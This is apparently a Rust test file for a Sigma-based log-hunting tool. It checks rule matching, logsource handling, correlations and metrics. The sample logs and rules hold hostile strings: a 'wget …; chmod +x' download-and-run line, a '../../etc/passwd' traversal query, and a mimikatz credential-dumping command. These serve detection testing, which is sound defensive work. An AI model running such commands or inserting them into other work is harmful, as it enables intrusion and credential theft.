        let (reader, writer) = std::io::pipe().unwrap();
        drop(reader);
        let status = crate::support::vigil()
            .args(args)
            .stdout(writer.try_clone().unwrap())
            .stderr(writer)
            .status()
            .unwrap();
        assert_eq!(status.code(), Some(code), "{args:?}: {status}");
    }
}

/// `-` with nothing piped in (standard input a terminal, here the pseudo-terminal `script`
/// gives the command) is refused with how to pipe logs, not waited on.
#[test]
fn standard_input_from_a_terminal_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    fixture(dir.path());
    let command = format!(
        "{} hunt -r {} -",
        env!("CARGO_BIN_EXE_vigil"),
        dir.path().join("rules").display()
    );
    let mut child = std::process::Command::new("script")
        .args(["-qec", &command, "/dev/null"])
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("script (bsdutils) runs the command on a pseudo-terminal");
    // Without the check the hunt waits for ever on the terminal: fail instead of hanging.
    let started = std::time::Instant::now();
    while child.try_wait().unwrap().is_none() {
        if started.elapsed() > std::time::Duration::from_secs(20) {
            let _ = child.kill();
            panic!("`vigil hunt -` waited on the terminal instead of refusing");
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    let out = child.wait_with_output().unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(!out.status.success(), "{text}");
    assert!(text.contains("nothing is piped in"), "{text}");
    assert!(text.contains("| vigil hunt"), "{text}");
}

/// Plain syslog files (auth.log, gzip or piped too) meet the Linux rules of the program that
/// wrote each line: an sshd rule fires on sshd's lines, not on cron's saying the same; a rule
/// for any Linux log on every line; `--logsource` says otherwise for the whole file.
#[test]
fn hunt_reads_syslog_as_the_linux_logs_their_programs_write() {
    let dir = tempfile::tempdir().unwrap();
    let rules = dir.path().join("rules");
    std::fs::create_dir(&rules).unwrap();
    std::fs::write(
        rules.join("sshd.yml"),
        "title: SSHD Error\nid: sshd\nlogsource:\n  product: linux\n  service: sshd\ndetection:\n  keywords:\n    - 'Corrupted MAC on input'\n  condition: keywords\nlevel: medium\n",
    )
    .unwrap();
    std::fs::write(
        rules.join("shell.yml"),
        "title: Download And Run\nid: shell\nlogsource:\n  product: linux\ndetection:\n  keywords:\n    - '*wget *; chmod +x*'\n  condition: keywords\nlevel: high\n",
    )
    .unwrap();
    let log = "\
Dec 10 06:55:46 LabSZ sshd[24200]: Corrupted MAC on input.
Dec 10 06:55:47 LabSZ CRON[1]: Corrupted MAC on input.
<13>1 2026-12-01T08:00:00Z LabSZ bash 99 - - wget http://x/x.sh; chmod +x /tmp/x.sh
";
    let file = dir.path().join("auth.log");
    std::fs::write(&file, log).unwrap();
    let rules = rules.to_str().unwrap();
    let found = |out: std::process::Output| -> Vec<(String, u64)> {
        jsonl(&ok(out))
            .iter()
            .map(|h| {
                (
                    h["rule_id"].as_str().unwrap().to_owned(),
                    h["record_id"].as_u64().unwrap(),
                )
            })
            .collect()
    };
    let hunt = |input: &str, extra: &[&str]| {
        let mut args = vec!["hunt", "-r", rules, "--format", "jsonl"];
        args.extend_from_slice(extra);
        args.push(input);
        let mut command = crate::support::vigil();
        command.args(args);
        command
    };
    let by_program = [("sshd".to_owned(), 1), ("shell".to_owned(), 3)];
    assert_eq!(
        found(hunt(file.to_str().unwrap(), &[]).output().unwrap()),
        by_program
    );
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    std::io::Write::write_all(&mut gz, log.as_bytes()).unwrap();
    assert_eq!(
        found(output_with_input(&mut hunt("-", &[]), gz.finish().unwrap())),
        by_program
    );
    // Declared for the whole file: every line is sshd's.
    let declared = hunt(
        file.to_str().unwrap(),
        &["--logsource", "product=linux,service=sshd"],
    )
    .output()
    .unwrap();
    assert_eq!(
        found(declared),
        [
            ("sshd".to_owned(), 1),
            ("sshd".to_owned(), 2),
            ("shell".to_owned(), 3)
        ]
    );
    let hit = &jsonl(&ok(hunt(file.to_str().unwrap(), &[]).output().unwrap()))[0];
    assert_eq!(hit["event"]["app_name"], "sshd");
    assert_eq!(hit["event"]["hostname"], "LabSZ");
    // The table says which program said what, on which host.
    let table = ok(crate::support::run(&[
        "hunt",
        "-r",
        rules,
        file.to_str().unwrap(),
    ]));
    let row = table
        .lines()
        .find(|l| l.contains("SSHD Error"))
        .unwrap_or_else(|| panic!("{table}"));
    assert!(
        row.contains("LabSZ") && row.contains("app_name: sshd"),
        "{table}"
    );
    assert!(
        table.contains("message: Corrupted MAC on input."),
        "{table}"
    );
}

/// OpenSSH 9.8 and later log as `sshd-session` (and `sshd-auth` in 10): their lines meet
/// SigmaHQ's sshd rules and the `auth` rules as `sshd`'s do, in RFC 3164 and RFC 5424 alike; a
/// line PAM wrote for any program (gdm's) is of the authentication log.
#[test]
fn hunt_reads_openssh_session_and_pam_lines_as_sshd_and_auth_logs() {
    let dir = tempfile::tempdir().unwrap();
    let rules = dir.path().join("rules");
    std::fs::create_dir(&rules).unwrap();
    std::fs::copy(
        Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("../../../shared/data/sigma/rules/linux/builtin/sshd/lnx_sshd_susp_ssh.yml"),
        rules.join("sshd.yml"),
    )
    .unwrap();
    std::fs::write(
        rules.join("auth.yml"),
        "title: Authentication Failure\nid: auth\nlogsource:\n  product: linux\n  service: auth\ndetection:\n  keywords:\n    - 'authentication failure'\n  condition: keywords\nlevel: low\n",
    )
    .unwrap();
    let log = "\
Dec  1 10:00:02 bastion sshd-session[5002]: error: kex_exchange_identification: Corrupted MAC on input
Dec  1 10:00:03 bastion sshd-session[5002]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.9
<38>1 2026-12-01T10:00:04Z bastion sshd-auth 5003 - - Corrupted MAC on input
Dec  1 10:00:05 desk gdm-password]: pam_unix(gdm-password:auth): authentication failure; logname= uid=0 euid=0 tty=/dev/tty1 ruser= rhost=  user=bob
Dec  1 10:00:06 desk gdm(pam_unix)[811]: authentication failure; logname= uid=0 euid=0 tty=:0 ruser= rhost=  user=bob
Dec  1 10:00:07 desk myapp[9]: authentication failure; Corrupted MAC on input
";
    let file = dir.path().join("auth.log");
    std::fs::write(&file, log).unwrap();
    let out = ok(run(&[
        "hunt",
        "-r",
        rules.to_str().unwrap(),
        "--format",
        "jsonl",
        file.to_str().unwrap(),
    ]));
    let mut found: Vec<(String, u64)> = jsonl(&out)
        .iter()
        .map(|h| {
            (
                h["rule_title"].as_str().unwrap().to_owned(),
                h["record_id"].as_u64().unwrap(),
            )
        })
        .collect();
    found.sort();
    let hit = |title: &str, line: u64| (title.to_owned(), line);
    assert_eq!(
        found,
        [
            hit("Authentication Failure", 2),
            hit("Authentication Failure", 4),
            hit("Authentication Failure", 5),
            hit("Suspicious OpenSSH Daemon Error", 1),
            hit("Suspicious OpenSSH Daemon Error", 3),
        ],
        "{out}"
    );
}

/// A file named `.gz` that is not gzip-compressed (nor any log as it is) is said to be so,
/// not "not a log file": its content was never decompressed.
#[test]
fn hunt_says_a_file_named_gz_is_not_gzip() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("auth.log.1.gz");
    std::fs::write(&file, "just some notes\n").unwrap();
    let rules = dir.path().join("rule.yml");
    std::fs::write(&rules, RULE_WHOAMI).unwrap();
    let out = run(&[
        "hunt",
        "-r",
        rules.to_str().unwrap(),
        file.to_str().unwrap(),
    ]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("auth.log.1.gz: named .gz but not gzip-compressed"),
        "{err}"
    );
}

#[test]
fn hunt_with_a_declared_logsource_runs_only_the_rules_written_for_it() {
    let dir = tempfile::tempdir().unwrap();
    let rules = dir.path().join("rules");
    std::fs::create_dir(&rules).unwrap();
    std::fs::write(
        rules.join("auth.yml"),
        "title: SSH Failed Password\nid: auth\nlogsource:\n  product: linux\n  service: auth\ndetection:\n  keywords:\n    - 'Failed password'\n  condition: keywords\nlevel: low\n",
    )
    .unwrap();
    std::fs::write(
        rules.join("web.yml"),
        "title: Path Traversal\nid: web\nlogsource:\n  category: webserver\ndetection:\n  sel:\n    cs-uri-query|contains: '../'\n  condition: sel\nlevel: high\n",
    )
    .unwrap();
    let logs = dir.path().join("access.jsonl");
    std::fs::write(
        &logs,
        "{\"cs-uri-query\":\"f=../../etc/passwd\",\"message\":\"Failed password\"}\n",
    )
    .unwrap();
    let (rules, logs) = (rules.to_str().unwrap(), logs.to_str().unwrap());
    let hunt = |extra: &[&str]| {
        let mut args = vec!["hunt", "-r", rules, "--format", "jsonl"];
        args.extend_from_slice(extra);
        args.push(logs);
        let mut ids: Vec<String> = jsonl(&ok(run(&args)))
            .iter()
            .map(|h| h["rule_id"].as_str().unwrap().to_owned())
            .collect();
        ids.sort();
        ids
    };
    // A JSON log of unknown source meets the rules whose fields it holds, but not the words of
    // a log it is not said to be (an application's "Failed password" is no sshd line) …
    assert_eq!(hunt(&[]), ["web"]);
    // … unless the user says it is.
    assert_eq!(
        hunt(&["--logsource", "product=linux,service=auth"]),
        ["auth"]
    );
    assert_eq!(hunt(&["--logsource", "category=webserver"]), ["web"]);
    assert_eq!(
        hunt(&[
            "--logsource",
            "product=linux,service=auth",
            "--logsource",
            "category=webserver"
        ]),
        ["auth", "web"]
    );
    // Logs whose fields have other names: mapped to the rules' names.
    let ecs = dir.path().join("ecs.jsonl");
    std::fs::write(&ecs, "{\"url\":{\"query\":\"f=../../etc/passwd\"}}\n").unwrap();
    let ecs = ecs.to_str().unwrap();
    let hunt_ecs = |extra: &[&str]| {
        let mut args = vec!["hunt", "-r", rules, "--format", "jsonl"];
        args.extend_from_slice(extra);
        args.push(ecs);
        jsonl(&ok(run(&args))).len()
    };
    assert_eq!(hunt_ecs(&[]), 0);
    assert_eq!(hunt_ecs(&["--field-map", "cs-uri-query=url.query"]), 1);
    let bad_map = run(&["hunt", "-r", rules, "--field-map", "cs-uri-query", ecs]);
    assert!(!bad_map.status.success());
    assert!(String::from_utf8_lossy(&bad_map.stderr).contains("RULE_FIELD=PATH"));
    let bad = run(&["hunt", "-r", rules, "--logsource", "kind=web", logs]);
    assert!(!bad.status.success());
    let stderr = String::from_utf8_lossy(&bad.stderr);
    assert!(
        stderr.contains("--logsource") && stderr.contains("use product, category or service"),
        "{stderr}"
    );
}

/// A misspelt --logsource opens no rule: the hunt says so before hunting, with the values the
/// rules use, rather than reporting "no matches" as if the logs were clean.
#[test]
fn hunt_warns_of_a_declared_logsource_no_rule_is_written_for() {
    let dir = tempfile::tempdir().unwrap();
    let rules = dir.path().join("rules");
    std::fs::create_dir(&rules).unwrap();
    std::fs::write(
        rules.join("ct.yml"),
        "title: Trail Stopped\nid: ct\nlogsource:\n  product: aws\n  service: cloudtrail\ndetection:\n  sel:\n    eventName: StopLogging\n  condition: sel\nlevel: high\n",
    )
    .unwrap();
    let logs = dir.path().join("ct.jsonl");
    std::fs::write(&logs, "{\"eventName\":\"StopLogging\"}\n").unwrap();
    let (rules, logs) = (rules.to_str().unwrap(), logs.to_str().unwrap());
    let hunt = |logsource: &str| {
        let out = run(&[
            "hunt",
            "-r",
            rules,
            "--format",
            "jsonl",
            "--logsource",
            logsource,
            logs,
        ]);
        let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
        (jsonl(&ok(out)).len(), stderr)
    };
    let (found, stderr) = hunt("product=aws,service=cloudtrail");
    assert_eq!(found, 1);
    assert!(!stderr.contains("warning"), "{stderr}");
    let (found, stderr) = hunt("product=aws,service=cloudtrial");
    assert_eq!(found, 0);
    assert!(
        stderr.contains(
            "warning: --logsource: no loaded rule is written for product=aws,service=cloudtrial logs"
        ) && stderr.contains("did you mean service=cloudtrail?"),
        "{stderr}"
    );
    let (_, stderr) = hunt("product=awss");
    assert!(
        stderr.contains("no loaded rule is written for product=awss logs")
            && stderr.contains("did you mean product=aws?"),
        "{stderr}"
    );
    // One of two declarations that opens nothing is named on its own.
    let out = run(&[
        "hunt",
        "-r",
        rules,
        "--format",
        "jsonl",
        "--logsource",
        "product=aws,service=cloudtrail",
        "--logsource",
        "category=webservers",
        logs,
    ]);
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    assert_eq!(jsonl(&ok(out)).len(), 1);
    assert!(
        stderr.contains("--logsource: no loaded rule is written for category=webservers logs"),
        "{stderr}"
    );
}

/// SigmaHQ's Kubernetes audit rules: 6 name `product: kubernetes, service: audit`, 10 also
/// `category: application`. Declared as the first, the logs meet the 6, and the hunt says what
/// keeps the 10 away rather than leaving them out unseen; declared with the category, all 16.
#[test]
fn hunt_warns_of_rules_naming_a_part_the_declared_logsource_lacks() {
    let kubernetes = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../../shared/data/sigma/rules/application/kubernetes/audit");
    let dir = tempfile::tempdir().unwrap();
    let logs = dir.path().join("audit.jsonl");
    // Matches kubernetes_audit_events_deleted (category application) and nothing else.
    std::fs::write(
        &logs,
        "{\"verb\":\"delete\",\"objectRef\":{\"resource\":\"events\"}}\n",
    )
    .unwrap();
    let hunt = |logsource: &str| {
        let out = crate::support::vigil()
            .args(["hunt", "--format", "jsonl", "-r"])
            .arg(&kubernetes)
            .args(["--logsource", logsource])
            .arg(&logs)
            .output()
            .unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
        (jsonl(&ok(out)).len(), stderr)
    };
    let (found, stderr) = hunt("product=kubernetes,service=audit");
    assert_eq!(found, 0, "{stderr}");
    assert!(
        stderr.contains(
            "warning: --logsource: 10 rules for product=kubernetes,service=audit also name category=application; declare category=application too to run them"
        ),
        "{stderr}"
    );
    let (found, stderr) = hunt("product=kubernetes,service=audit,category=application");
    assert_eq!(found, 1, "{stderr}");
    assert!(!stderr.contains("warning"), "{stderr}");
}

#[test]
fn correlations_report_the_records_that_made_them() {
    let dir = tempfile::tempdir().unwrap();
    let rules = dir.path().join("rules");
    std::fs::create_dir(&rules).unwrap();
    std::fs::write(
        rules.join("brute.yml"),
        RULE_REPEATED_FAILURES.replace("level: high", "level: high\ntags:\n  - attack.t1110"),
    )
    .unwrap();
    let logs = dir.path().join("auth.jsonl");
    std::fs::write(
        &logs,
        [
            r#"{"@timestamp":"2026-12-01T10:00:00Z","host":"DC1","user":"root","outcome":"failure"}"#,
            r#"{"@timestamp":"2026-12-01T10:00:10Z","host":"DC1","user":"bob","outcome":"failure"}"#,
            r#"{"@timestamp":"2026-12-01T10:00:20Z","host":"DC1","user":"root","outcome":"success"}"#,
            r#"{"@timestamp":"2026-12-01T10:00:30Z","host":"DC1","user":"root","outcome":"failure"}"#,
        ]
        .join("\n"),
    )
    .unwrap();
    let (rules, logs) = (rules.to_str().unwrap(), logs.to_str().unwrap());
    let hits = jsonl(&ok(run(&["hunt", "-r", rules, "--format", "jsonl", logs])));
    // The base rule only feeds the correlation (generate: false by default).
    assert_eq!(hits.len(), 1, "{hits:?}");
    let c = &hits[0];
    assert_eq!(c["rule_id"], "repeated");
    assert_eq!(c["correlation"]["group"], serde_json::json!(["root"]));
    assert_eq!(c["correlation"]["group_by"], serde_json::json!(["user"]));
    assert_eq!(c["correlation"]["value"], 2.0);
    let events = c["correlation"]["events"].as_array().unwrap();
    let records: Vec<u64> = events
        .iter()
        .map(|e| e["record_id"].as_u64().unwrap())
        .collect();
    assert_eq!(records, [1, 4], "the lines of root's two failures");
    assert!(events[0]["file"].as_str().unwrap().ends_with("auth.jsonl"));
    // Like every match line: the rule's tags and logsource (a correlation names none), and the
    // file, record and computer of the event that completed it.
    assert_eq!(c["tags"], serde_json::json!(["attack.t1110"]), "{c}");
    assert_eq!(
        c["logsource"],
        serde_json::json!({"product": null, "category": null, "service": null}),
        "{c}"
    );
    assert!(c["file"].as_str().unwrap().ends_with("auth.jsonl"), "{c}");
    assert_eq!(c["record_id"], 4, "{c}");
    assert_eq!(c["computer"], "DC1", "{c}");
    let csv = ok(run(&["hunt", "-r", rules, "--format", "csv", logs]));
    let row = csv.lines().nth(1).unwrap_or_default();
    assert!(
        row.contains(&format!(",high,DC1,{logs},4,\"group: user=root")),
        "{csv}"
    );
    let output = run(&["hunt", "-r", rules, logs]);
    let stderr = String::from_utf8_lossy(&output.stderr).into_owned();
    let table = ok(output);
    assert!(
        table.contains("group: user=root") && table.contains("auth.jsonl#1, auth.jsonl#4"),
        "{table}"
    );
    // Only the correlation is reported: it counts under the computer its line names.
    assert!(
        stderr.contains("rules with the most matches (1 rule matched):")
            && stderr.contains("computers with the most matches (1 in all):\n         1  DC1\n"),
        "{stderr}"
    );
}

/// A count bounded from above (SigmaHQ's "rare" rules: `count() by ServiceName < 2`) is
/// decided when its window has passed, here at the end of the files: once per quiet group.
#[test]
fn a_rare_event_is_reported_once_its_window_has_passed() {
    let dir = tempfile::tempdir().unwrap();
    let rule = dir.path().join("rare.yml");
    std::fs::write(
        &rule,
        "title: Rare Service Installation\nid: 66666666-6666-6666-6666-666666666666\n\
         level: low\nlogsource: {product: windows, service: system}\ndetection:\n  \
         selection: {EventID: 7045}\n  timeframe: 7d\n  \
         condition: selection | count() by ServiceName < 2\n",
    )
    .unwrap();
    let install = |day: u32, service: &str| {
        format!(
            r##"{{"Event":{{"System":{{"EventID":7045,"Channel":"System","Computer":"WS01","TimeCreated":{{"#attributes":{{"SystemTime":"2024-01-{day:02}T10:00:00Z"}}}}}},"EventData":{{"ServiceName":"{service}"}}}}}}"##
        )
    };
    let logs = dir.path().join("system.jsonl");
    std::fs::write(
        &logs,
        [
            install(1, "Spooler"),
            install(2, "PSEXESVC"),
            install(3, "Spooler"),
        ]
        .join("\n"),
    )
    .unwrap();
    let hits = jsonl(&ok(run(&[
        "hunt",
        "-r",
        rule.to_str().unwrap(),
        "--format",
        "jsonl",
        logs.to_str().unwrap(),
    ])));
    assert_eq!(hits.len(), 1, "{hits:?}");
    assert_eq!(
        hits[0]["correlation"]["group"],
        serde_json::json!(["PSEXESVC"])
    );
    assert_eq!(hits[0]["correlation"]["value"], 1.0);
    assert_eq!(hits[0]["timestamp"], "2024-01-02T10:00:00.000Z");
}

/// `--search` with an IPv4 network finds the events where an address of it stands alone.
#[test]
fn hunt_searches_for_a_network() {
    let dir = tempfile::tempdir().unwrap();
    let logs = dir.path().join("fw.jsonl");
    std::fs::write(
        &logs,
        [
            r#"{"src":"10.1.200.7","msg":"allowed"}"#,
            r#"{"src":"10.2.0.1","msg":"allowed"}"#,
            r#"{"msg":"blocked 10.1.3.4:445 from outside"}"#,
            r#"{"msg":"version 110.1.3.4 is not an address of it"}"#,
            r#"{"src":"2001:DB8:0:1::5","msg":"allowed"}"#,
            r#"{"msg":"blocked [2001:0db8::9]:443 from outside"}"#,
            r#"{"src":"2001:db80::1","msg":"allowed"}"#,
        ]
        .join("\n"),
    )
    .unwrap();
    let records = |network: &str| -> (Vec<u64>, Vec<serde_json::Value>) {
        let hits = jsonl(&ok(run(&[
            "hunt",
            "--search",
            network,
            "--format",
            "jsonl",
            logs.to_str().unwrap(),
        ])));
        let records = hits
            .iter()
            .map(|h| h["record_id"].as_u64().unwrap())
            .collect();
        (records, hits)
    };
    let (found, hits) = records("10.1.0.0/16");
    assert_eq!(found, [1, 3], "{hits:?}");
    assert_eq!(
        hits[1]["found"]["value"],
        "blocked 10.1.3.4:445 from outside"
    );
    // IPv6: in capitals, with leading zeros, in brackets; not a longer first group.
    let (found, hits) = records("2001:db8::/32");
    assert_eq!(found, [5, 6], "{hits:?}");
}

/// `vigil metrics`: what a collection holds, per log and event id and per computer, read as
/// `vigil hunt` reads it (damaged files reported, unknown ones skipped).
#[test]
fn metrics_count_what_a_collection_holds() {
    let dir = tempfile::tempdir().unwrap();
    fixture(dir.path());
    std::fs::write(
        dir.path().join("logs/auth.log"),
        "Jan 10 10:00:00 bastion sshd[42]: Failed password for root from 203.0.113.9 port 22 ssh2\n",
    )
    .unwrap();
    let logs = dir.path().join("logs");
    let logs = logs.to_str().unwrap();
    let output = run(&["metrics", logs, "--json"]);
    let stderr = String::from_utf8_lossy(&output.stderr).into_owned();
    let m: serde_json::Value = serde_json::from_str(&ok(output)).unwrap();
    assert_eq!(m["events"], 4, "{m}");
    assert_eq!(
        m["kinds"][0],
        serde_json::json!({"log": "Microsoft-Windows-Sysmon/Operational", "event_id": "1",
                           "name": "Process creation", "events": 3})
    );
    assert_eq!(m["kinds"][1]["log"], "linux/sshd", "{m}");
    assert_eq!(m["computers"][0]["computer"], "WS01");
    assert_eq!(m["computers"][0]["first"], "2024-01-01T10:00:00.000Z");
    assert_eq!(m["computers"][0]["last"], "2024-01-02T10:00:00.000Z");
    assert_eq!(m["computers"][1]["computer"], "bastion");
    assert_eq!(
        m["errors"], 2,
        "the broken line and the damaged export: {m}"
    );
    assert!(stderr.contains("a.jsonl: record 4"), "{stderr}");
    let read: Vec<(String, u64)> = m["files_read"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            let path = Path::new(f["file"].as_str().unwrap());
            let name = path.file_name().unwrap().to_string_lossy().into_owned();
            (name, f["events"].as_u64().unwrap())
        })
        .collect();
    assert_eq!(
        read,
        [("a.jsonl".to_owned(), 3), ("auth.log".to_owned(), 1)]
    );
    // A window: the second of January only (one of WS01's three, none of the syslog).
    let day: serde_json::Value = serde_json::from_str(&ok(run(&[
        "metrics",
        logs,
        "--from",
        "2024-01-02",
        "--to",
        "2024-01-03",
        "--json",
    ])))
    .unwrap();
    assert_eq!(day["events"], 1, "{day}");
    assert_eq!(day["computers"][0]["computer"], "WS01", "{day}");
    let table = ok(run(&["metrics", logs, "--files", "--timezone", "+02:00"]));
    assert!(
        table.contains("Files") && table.contains("auth.log"),
        "{table}"
    );
    assert!(
        table.contains("Process creation")
            && table.contains("75.0 %")
            && table.contains("FIRST (+02:00)")
            && table.contains("2024-01-01T12:00:00.000+02:00"),
        "{table}"
    );
}

/// The details of a match show the fields its rule matched on, then those it asks to show an
/// analyst (Sigma's `fields`), when the event has them.
#[test]
fn details_show_the_fields_a_rule_names() {
    let dir = tempfile::tempdir().unwrap();
    fixture(dir.path());
    let rule = dir.path().join("rules/mimikatz.yml");
    let with_fields = RULE_HIGH.replace(
        "logsource:",
        "fields:\n    - Computer\n    - NoSuchField\n    - Image\nlogsource:",
    );
    std::fs::write(&rule, with_fields).unwrap();
    let logs = dir.path().join("logs/a.jsonl");
    let (rule, logs) = (rule.to_str().unwrap(), logs.to_str().unwrap());
    let csv = ok(run(&["hunt", "-r", rule, "--format", "csv", logs]));
    let row = csv.lines().nth(1).unwrap_or_default();
    assert!(
        row.ends_with(
            r"CommandLine: m.exe sekurlsa::logonpasswords; Computer: WS01; Image: C:\t\m.exe"
        ),
        "the rule's fields, in its order, those the event has: {csv}"
    );
}

/// A match's details name what its rule matched on, whole in CSV (a spreadsheet is where the
/// values are read), shortened only in the table; an event whose rule names nothing shown
/// still shows its key fields (here a Sysmon process access: source, target, access).
#[test]
fn details_show_what_the_rule_matched_on_whole_in_csv() {
    let dir = tempfile::tempdir().unwrap();
    let long_target = format!(r"C:\Windows\{}\lsass.exe", "x".repeat(150));
    let event = serde_json::json!({"Event": {
        "System": {
            "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}},
            "EventID": 10, "EventRecordID": 7, "Computer": "WS01",
            "Channel": "Microsoft-Windows-Sysmon/Operational",
            "TimeCreated": {"#attributes": {"SystemTime": "2024-01-01T10:00:00Z"}}
        },
        "EventData": {"SourceImage": r"C:\t\dump.exe", "TargetImage": long_target,
                      "GrantedAccess": "0x1010", "CallTrace": "UNKNOWN"}
    }});
    let logs = dir.path().join("access.jsonl");
    std::fs::write(&logs, format!("{event}\n")).unwrap();
    let rule = dir.path().join("access.yml");
    let write_rule = |selection: &str| {
        std::fs::write(
            &rule,
            format!(
                "title: Access\nlogsource:\n    product: windows\n    category: process_access\n\
                 detection:\n    selection:\n{selection}    condition: selection\n"
            ),
        )
        .unwrap();
    };
    write_rule("        GrantedAccess: '0x1010'\n        TargetImage|endswith: 'lsass.exe'\n");
    let (rule_arg, logs_arg) = (rule.to_str().unwrap(), logs.to_str().unwrap());
    let csv = ok(run(&["hunt", "-r", rule_arg, "--format", "csv", logs_arg]));
    let row = csv.lines().nth(1).unwrap_or_default();
    assert!(
        row.ends_with(&format!(
            "GrantedAccess: 0x1010; TargetImage: {long_target}; SourceImage: C:\\t\\dump.exe"
        )),
        "what the rule matched on, whole, then a key field: {csv}"
    );
    let table = ok(run(&["hunt", "-r", rule_arg, logs_arg]));
    assert!(
        table.contains("GrantedAccess: 0x1010")
            && table.contains("...")
            && !table.contains(&long_target),
        "the table shortens the same fields: {table}"
    );
    // A rule that picks its events by id alone: the key fields say what happened.
    write_rule("        EventID: 10\n");
    let csv = ok(run(&["hunt", "-r", rule_arg, "--format", "csv", logs_arg]));
    let row = csv.lines().nth(1).unwrap_or_default();
    assert!(
        row.ends_with(&format!(
            "SourceImage: C:\\t\\dump.exe; TargetImage: {long_target}; GrantedAccess: 0x1010"
        )),
        "the key fields of a process access: {csv}"
    );
    // A rule matching on an empty value (SigmaHQ's `StartModule: ''`): the field is shown, as
    // `""`, for it is why the event is listed.
    write_rule("        CallTrace: 'UNKNOWN'\n        StartModule: ''\n");
    let event = event.to_string().replace(
        r#""CallTrace":"UNKNOWN""#,
        r#""CallTrace":"UNKNOWN","StartModule":"""#,
    );
    std::fs::write(&logs, format!("{event}\n")).unwrap();
    let csv = ok(run(&["hunt", "-r", rule_arg, "--format", "csv", logs_arg]));
    let row = csv.lines().nth(1).unwrap_or_default();
    assert!(
        row.contains(r#"CallTrace: UNKNOWN; StartModule: """""#),
        "the empty value the rule matched, quoted as CSV quotes a quote: {csv}"
    );
}

/// A Sigma 1 rule with an aggregation (`| count(...) by ... > N`, as Hayabusa users write
/// them) is loaded and hunted with as the correlation it stands for, under its own id.
#[test]
fn sigma_1_aggregations_are_hunted_with() {
    let dir = tempfile::tempdir().unwrap();
    let rules = dir.path().join("rules");
    std::fs::create_dir(&rules).unwrap();
    std::fs::write(
        rules.join("spray.yml"),
        "title: Password Spraying From One Source\nid: 55555555-5555-5555-5555-555555555555\n\
         level: high\nlogsource: {product: windows, service: security}\ndetection:\n  \
         selection: {EventID: 4625}\n  timeframe: 5m\n  \
         condition: selection | count(TargetUserName) by IpAddress > 2\n",
    )
    .unwrap();
    let failure = |minute: u32, user: &str, ip: &str| {
        format!(
            r##"{{"Event":{{"System":{{"EventID":4625,"Channel":"Security","Computer":"DC01","TimeCreated":{{"#attributes":{{"SystemTime":"2024-01-01T10:{minute:02}:00Z"}}}}}},"EventData":{{"TargetUserName":"{user}","IpAddress":"{ip}"}}}}}}"##
        )
    };
    let logs = dir.path().join("security.jsonl");
    std::fs::write(
        &logs,
        [
            failure(0, "alice", "203.0.113.9"),
            failure(1, "bob", "203.0.113.9"),
            failure(1, "alice", "198.51.100.7"),
            failure(2, "bob", "203.0.113.9"),
            failure(3, "carol", "203.0.113.9"),
        ]
        .join("\n"),
    )
    .unwrap();
    let (rules, logs) = (rules.to_str().unwrap(), logs.to_str().unwrap());
    let checked = ok(run(&["rules", "check", rules]));
    assert!(
        checked.contains("1 correlation")
            && checked.contains("1 Sigma 1 aggregation (`| count() ...`, `| near ...`) is run as"),
        "{checked}"
    );
    let output = run(&["hunt", "-r", rules, "--format", "jsonl", logs]);
    let stderr = String::from_utf8_lossy(&output.stderr).into_owned();
    let hits = jsonl(&ok(output));
    assert_eq!(hits.len(), 1, "only the aggregation reports: {hits:?}");
    // The summary counts what correlations found with the rules' matches.
    assert!(
        stderr.contains("matches by level: 1 high\n")
            && stderr.contains("1  high           Password Spraying From One Source"),
        "{stderr}"
    );
    let c = &hits[0];
    assert_eq!(c["rule_id"], "55555555-5555-5555-5555-555555555555");
    assert_eq!(c["rule_title"], "Password Spraying From One Source");
    assert_eq!(
        c["correlation"]["group"],
        serde_json::json!(["203.0.113.9"])
    );
    assert_eq!(c["correlation"]["value"], 3.0, "alice, bob and carol");
    assert_eq!(c["timestamp"], "2024-01-01T10:03:00.000Z");
}

/// A rule written for placeholders (SigmaHQ's rules-placeholder: the values are the
/// environment's) meets events through the values of `--placeholders`, for `vigil hunt` and
/// `vigil rules check`; without values a placeholder matches nothing, and a bad placeholders
/// file is an error naming its line.
#[test]
fn hunt_expands_placeholders_from_a_file() {
    const RULE: &str = r#"title: Logon From An Admin Workstation
id: 44444444-4444-4444-4444-444444444444
level: high
logsource:
    product: windows
    service: security
detection:
    selection:
        EventID: 4624
        WorkstationName|expand: '%Admins_Workstations%'
    filter_dc:
        IpAddress|expand: '%dc_ip_addresses%'
    condition: selection and not filter_dc
"#;
    let logon = |record: u64, workstation: &str, ip: &str| {
        serde_json::json!({"Event": {
            "System": {"EventID": 4624, "EventRecordID": record, "Channel": "Security",
                       "Computer": "DC01", "TimeCreated": {"#attributes": {"SystemTime": "2024-01-01T10:00:00Z"}}},
            "EventData": {"WorkstationName": workstation, "IpAddress": ip}
        }})
        .to_string()
    };
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    std::fs::write(d.join("rule.yml"), RULE).unwrap();
    let lines = [
        logon(1, "WS-ADM-01", "10.0.0.5"),
        logon(2, "WS-ADM-02", "10.0.0.1"),
        logon(3, "LAPTOP-7", "10.0.0.6"),
    ];
    std::fs::write(d.join("logons.jsonl"), lines.join("\n") + "\n").unwrap();
    // A pySigma pipeline's vars, as a team that converts rules with pySigma keeps them.
    std::fs::write(
        d.join("pipeline.yml"),
        "name: our environment\nvars:\n  Admins_Workstations: [WS-ADM-01, ws-adm-02]\n  dc_ip_addresses: 10.0.0.1\n",
    )
    .unwrap();
    let hunt = |extra: &[&str]| {
        let mut args = vec![
            "hunt",
            "--rules",
            d.join("rule.yml").to_str().unwrap(),
            "--format",
            "jsonl",
        ]
        .into_iter()
        .map(str::to_owned)
